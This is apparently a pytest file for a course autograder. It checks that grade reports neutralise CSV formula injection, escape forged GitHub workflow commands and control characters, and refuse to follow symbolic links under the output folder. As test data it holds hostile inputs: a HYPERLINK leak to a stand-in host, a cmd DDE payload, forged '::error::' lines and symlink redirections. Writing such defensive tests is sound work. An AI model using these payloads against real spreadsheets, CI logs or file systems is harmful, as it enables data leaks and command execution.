"""Reports cannot be turned against their readers (issue 20, §3).

- CSV injection: every text cell of grades.csv and checks.csv that a spreadsheet would read as a
  formula (OWASP: a first character among = + - @ tab CR LF) starts with a single quote; numbers
  are written from numbers, so a negative score stays a number.
- Workflow commands: no line of the class table (stdout, a CI log in the matrix templates) and no
  note on stderr starts a GitHub workflow command, whatever a student names a file or a module.
- Newlines and control characters in names are shown escaped, on one line.
- Nothing under --out is written or read through a symbolic link: the student's row says why,
  the class goes on.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest

from checks.engine import cli
from checks.engine.course.batch import read_row
from checks.engine.course.classroom import Entry
from checks.engine.course.merge import copy_submission
from checks.engine.isolation.confinement import Confinement
from checks.engine.report.files import LinkRefused, read_beneath, write_atomically
from checks.engine.run.results import Grade
from checks.engine.course.summary import CheckRow, Row, checks_csv, class_table, grades_csv, spreadsheet_text
from tiny_grading import CORRECT, SUBMISSIONS, make_class, rnn_grade, tiny_options

# A line a GitHub runner would run: "::name ...::" or "##[name]", after any blanks.
WORKFLOW_COMMAND = re.compile(r"^\s*(::|##\[)", re.MULTILINE)
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1)", "\tA", "\r=1"]


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> list[str]:
    return tiny_options(tmp_path_factory.mktemp("tiny"))


def a_row(submission: str, score: float = 1.0, reason: str = "", group: str = "forward", check: str = "c") -> Row:
    return Row(submission, score, 6.0, {group: score}, "graded", 0.25, reason,
               (CheckRow(group, check, score, 6.0, score == 6.0),))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- CSV injection -------------------------------------------------------------------------------


@pytest.mark.parametrize("text, expected", [
    ('=HYPERLINK("http://evil.example/?leak","click")', '\'=HYPERLINK("http://evil.example/?leak","click")'),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("\tA", "'\tA"), ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"), ("alice/rnn_layers.py", "alice/rnn_layers.py"), ("a=b", "a=b"), ("", ""),
])
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(text, expected):
    assert spreadsheet_text(text) == expected


def test_grades_csv_neutralises_every_text_cell_and_keeps_numbers_numbers():
    rows = [a_row(HOSTILE_IDS[0], score=-3.0, reason="=cmd|' /C calc'!A0"), a_row("@bob", group="-g")]
    table = cells(grades_csv(rows))
    assert table[0] == ["submission", "score", "max_score", "forward", "'-g", "status", "seconds", "reason"]
    assert table[1] == ['\'=HYPERLINK("http://evil.example/?leak","click")', "-3", "6", "-3", "0", "graded", "0.25",
                        "'=cmd|' /C calc'!A0"]
    assert table[2] == ["'@bob", "1", "6", "0", "1", "graded", "0.25", ""]


def test_checks_csv_neutralises_group_and_check_names():
    table = cells(checks_csv([a_row("a", group="=g", check="+c")]))
    assert table[1] == ["'=g", "'+c", "6", "1", "0", "0.0", "1"]


def test_a_control_character_in_a_csv_cell_is_shown_escaped_on_its_line():
    table = cells(grades_csv([a_row("a\n::warning::x\x1b[31m")]))
    assert len(table) == 2 and table[1][0] == "a\\n::warning::x\\x1b[31m"


def test_a_class_with_formula_names_gets_a_grades_csv_a_spreadsheet_cannot_run(tmp_path, tiny):
    folder = make_class(tmp_path / "class", {name: CORRECT for name in ["=1+2", "+SUM(1)", "-1", "@A1"]})
    out = tmp_path / "out"
    run = rnn_grade(str(folder), "--out", str(out), *tiny)
    assert run.returncode == 0, run.stdout + run.stderr
    rows = cells((out / "grades.csv").read_text())[1:]
    assert sorted(row[0] for row in rows) == ["'+SUM(1)", "'-1", "'=1+2", "'@A1"]
    assert all(row[1:3] == ["6", "6"] for row in rows)


# -- workflow commands and newlines ----------------------------------------------------------------


def test_the_class_table_runs_no_workflow_command_and_shows_each_id_on_one_line():
    rows = [a_row("::error title=x::pwned"), a_row("  ##[warning]forged"), a_row("a\n::warning::forged"),
            a_row("b", reason="import failed:\n::error::from the student's message \x1b[2J")]
    table = class_table(rows)
    assert WORKFLOW_COMMAND.search(table) is None
    lines = table.splitlines()
    assert len(lines) == 5  # four submissions and the count: no name or reason adds a line
    assert lines[0].startswith("\\x3a:error title=x::pwned ")
    assert lines[1].startswith("  \\x23#[warning]forged")
    assert lines[2].startswith("a\\n::warning::forged")
    assert lines[3].endswith("graded: import failed:\\n::error::from the student's message \\x1b[2J")


def test_the_class_table_printed_in_a_ci_log_runs_no_command(tmp_path, tiny):
    folder = make_class(tmp_path / "class", {"::error title=pwned::owned": CORRECT,
                                             "::warning::x": SUBMISSIONS["syntax_error"]})
    run = rnn_grade(str(folder), *tiny)
    assert run.returncode == 1, run.stdout + run.stderr
    assert WORKFLOW_COMMAND.search(run.stdout) is None and WORKFLOW_COMMAND.search(run.stderr) is None
    assert "\\x3a:error title=pwned::owned " in run.stdout
    assert "\\x3a:warning::x " in run.stdout


def test_a_module_name_with_newlines_forges_no_line_of_the_instructor_notes(capsys):
    grade = Grade(Path("s.py"), "default", 0, [], sandbox=Confinement(()),
                  missing_module="x\n::error::forged\nrnn-grade: note: all clear")
    cli.show_instructor_notes(grade, verbose=False)
    lines = capsys.readouterr().err.splitlines()
    # one note, wrapped to the terminal's width: its continuations indented, none a line of its own
    assert lines[0].startswith("rnn-grade: note: ") and all(line.startswith("    ") for line in lines[1:])
    assert " ".join(line.strip() for line in lines) == (
        "rnn-grade: note: the submission imports 'x\\n::error::forged\\nrnn-grade: note: all clear', which the worker "
        "could not find: if the course provides it, pass its folder with --path FOLDER, or allow an installed "
        "package with --allow-package x\\n::error::forged\\nrnn-grade: note: all clear")


def test_every_note_on_stderr_is_inert(capsys):
    cli.note("a grader error quoting the student:\n::error::run me\n  ##[group]and me")
    assert capsys.readouterr().err == ("rnn-grade: a grader error quoting the student:\n\\x3a:error::run me\n"
                                       "  \\x23#[group]and me\n")


# -- no link under --out -----------------------------------------------------------------------------


def test_a_report_is_never_written_through_a_linked_folder(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir(), elsewhere.mkdir()
    (out / "aaron").symlink_to(elsewhere)
    with pytest.raises(LinkRefused) as refused:
        write_atomically(out / "aaron" / "results.json", "{}", beneath=out)
    assert refused.value.filename == str(out / "aaron")
    assert list(elsewhere.iterdir()) == []


def test_a_linked_report_file_is_replaced_not_followed_and_never_read(tmp_path):
    out, secret = tmp_path / "out", tmp_path / "secret.json"
    (out / "alice").mkdir(parents=True)
    secret.write_text('{"score": 100}')
    (out / "alice" / "results.json").symlink_to(secret)
    with pytest.raises(LinkRefused):
        read_beneath(out, out / "alice" / "results.json")
    write_atomically(out / "alice" / "results.json", "{}", beneath=out)
    assert secret.read_text() == '{"score": 100}' and not (out / "alice" / "results.json").is_symlink()


def test_a_row_whose_report_folder_is_a_link_says_why_and_scores_nothing(tmp_path):
    out, classmate = tmp_path / "out", tmp_path / "out" / "alice"
    classmate.mkdir(parents=True)
    (classmate / "results.json").write_text(json.dumps({"score": 6}))
    (out / "aaron").symlink_to(classmate)
    row = read_row(out, Entry("aaron", tmp_path, tmp_path), max_score=6.0)
    assert (row.submission, row.score, row.max_score, row.status) == ("aaron", 0.0, 6.0, "grader-error")
    assert row.reason.startswith(f"its report cannot be read: {out / 'aaron'}: a symbolic link")


def test_a_linked_output_folder_in_a_class_costs_that_row_only_and_nothing_is_written_through_it(tmp_path, tiny):
    folder = make_class(tmp_path / "class", {"alice": CORRECT, "aaron": CORRECT})
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    first = rnn_grade(str(folder), "--out", str(out), *tiny)
    assert first.returncode == 0, first.stdout + first.stderr
    elsewhere.mkdir()
    aaron = out / "aaron"
    for path in sorted(aaron.iterdir()):
        path.unlink()
    aaron.rmdir()
    aaron.symlink_to(elsewhere)
    run = rnn_grade(str(folder), "--out", str(out), "--force", *tiny)
    assert run.returncode == 2, run.stdout + run.stderr  # not the student's fault: a grader-side problem
    assert list(elsewhere.iterdir()) == []
    rows = {row["submission"]: row for row in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
    assert rows["alice"]["score"] == "6" and rows["alice"]["status"] == "graded"
    assert rows["aaron"]["status"] == "grader-error" and rows["aaron"]["score"] == "0"
    assert "a symbolic link" in rows["aaron"]["reason"]
    assert os.path.islink(aaron)


def test_merge_copies_a_shards_regular_files_only_and_never_writes_through_a_link(tmp_path):
    shard, merged, secret = tmp_path / "shard", tmp_path / "merged", tmp_path / "secret"
    (shard / "alice" / "repro").mkdir(parents=True)
    (shard / "alice" / "results.json").write_text("{}")
    (shard / "alice" / "repro" / "check.py").write_text("# script")
    secret.write_text("0600 secret")
    (shard / "alice" / "junit.xml").symlink_to(secret)
    (shard / "alice" / "repro" / "other.py").symlink_to(secret)
    merged.mkdir()
    copy_submission(shard, merged, "alice")
    assert sorted(str(p.relative_to(merged)) for p in merged.rglob("*")) == [
        "alice", "alice/repro", "alice/repro/check.py", "alice/results.json"]
    (tmp_path / "elsewhere").mkdir()
    (merged / "bob").symlink_to(tmp_path / "elsewhere")
    (shard / "bob").mkdir()
    (shard / "bob" / "results.json").write_text("{}")
    with pytest.raises(LinkRefused):
        copy_submission(shard, merged, "bob")
    assert list((tmp_path / "elsewhere").iterdir()) == []
